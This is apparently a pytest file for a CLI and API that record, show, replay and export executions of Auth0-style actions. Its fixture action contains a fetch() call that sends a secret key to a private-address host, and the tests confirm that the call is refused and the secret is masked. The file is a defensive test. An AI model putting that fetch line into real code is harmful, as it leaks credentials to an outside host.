"""freehold code: packages on disk, and recorded executions listed, shown and replayed; the same through the API."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support.commands import freehold as run_freehold
from tests.support.in_process import Installation, started

CODE = """exports.onExecuteCredentialsExchange = async (event, api) => {
    console.log('for', event.client.name, event.secrets.KEY);
    await fetch(`http://10.0.0.7:8080/path?key=${event.secrets.KEY}`).catch(() => {});
    api.accessToken.setCustomClaim('https://x.example/key', event.secrets.KEY); };"""


@pytest.fixture(scope="module")
def data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("code") / "data"


@pytest.fixture(scope="module")
def running(data: Path) -> Iterator[Installation]:
    """An installation in which an action has run once."""
    with started(data) as installation:
        with installation.management() as api:
            action = api.post("/actions/actions", json={
                "name": "Name it", "supported_triggers": [{"id": "credentials-exchange"}], "code": CODE, "deploy": True,
                "secrets": [{"name": "KEY", "value": "the-secret-value"}],
            }).json()  # fmt: skip
            bound = [{"ref": {"type": "action_id", "value": action["id"]}}]
            answer = api.patch("/actions/triggers/credentials-exchange/bindings", json={"bindings": bound})
            assert answer.status_code == 200, answer.text
            installation.advance(1)
            installation.management()
        yield installation


def freehold(data: Path, *arguments: str, check: bool = True) -> str:
    return run_freehold("code", *arguments, "--data", str(data), check=check).stdout


def recorded(running: Installation) -> list[dict[str, Any]]:
    with running.management() as api:
        found: list[dict[str, Any]] = api.get("/actions/executions?trigger_id=credentials-exchange").json()[
            "executions"
        ]
    assert found
    return found


def test_executions_are_listed_shown_and_replayed(running: Installation, data: Path) -> None:
    id_ = recorded(running)[0]["id"]
    assert id_ in freehold(data, "executions", "list", "--trigger", "credentials-exchange")
    assert freehold(data, "executions", "list", "--trigger", "post-login") == ""

    (result,) = json.loads(freehold(data, "executions", "show", id_))["results"]
    assert result["logs"] == [{"level": "log", "text": f"for {result['given'][0]['client']['name']} [secret]"}]
    reason = "the host has an address that is not public"
    assert result["destinations"] == [{"host": "10.0.0.7", "port": 8080, "how": "refused", "reason": reason}]
    assert result["answered"] == [["accessToken.setCustomClaim", ["https://x.example/key", "[secret]"]]]

    replayed = json.loads(freehold(data, "executions", "replay", id_, "--json"))
    assert (replayed["same"], replayed["results"][0]["code_changed"]) == (True, False)


def test_the_api_says_the_same(running: Installation) -> None:
    id_ = recorded(running)[0]["id"]
    with running.management() as api:
        whole = api.get(f"/actions/executions/{id_}/recording").json()
        assert whole["results"][0]["given"][0]["resource_server"]["identifier"].endswith("/api/v2/")
        assert "given" not in api.get(f"/actions/executions/{id_}").text
        replayed = api.post(f"/actions/executions/{id_}/replay").json()
        assert (replayed["same"], replayed["results"][0]["action_name"]) == (True, "Name it")
        for path, method in (("", "GET"), ("/recording", "GET"), ("/replay", "POST")):
            assert api.request(method, f"/actions/executions/nothing{path}").status_code == 404


def test_an_export_writes_a_folder_and_never_over_one(running: Installation, data: Path, tmp_path: Path) -> None:
    told = json.loads(freehold(data, "export", "--output", str(tmp_path / "home"), "--json"))

    assert [each["place"] for each in told] == ["actions/name-it"]
    assert (tmp_path / "home" / "actions" / "name-it" / "code.js").read_text() == CODE
    assert (tmp_path / "home" / "README.md").exists()
    again = run_freehold("code", "export", "-o", str(tmp_path / "home"), "--data", str(data), check=False)
    assert again.returncode != 0
    assert "Traceback" not in again.stderr
    assert running.issuer
